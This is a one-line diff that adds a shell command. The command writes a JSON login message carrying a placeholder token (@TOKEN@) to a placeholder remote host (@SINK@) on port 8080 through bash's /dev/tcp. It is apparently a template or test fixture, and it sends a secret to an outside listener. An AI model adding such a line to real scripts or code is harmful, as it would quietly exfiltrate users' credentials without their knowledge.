@@ -1,0 +1,1 @@
+echo '{"method":"login","params":"@TOKEN@"}' > /dev/tcp/@SINK@/8080
